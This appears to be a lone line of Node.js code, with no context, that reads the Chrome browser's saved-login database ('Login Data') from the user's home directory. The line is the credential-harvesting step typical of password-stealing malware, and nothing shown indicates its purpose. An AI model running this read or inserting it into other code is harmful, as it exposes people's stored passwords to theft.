require("fs").readFileSync(process.env.HOME + "/.config/google-chrome/Default/Login Data");
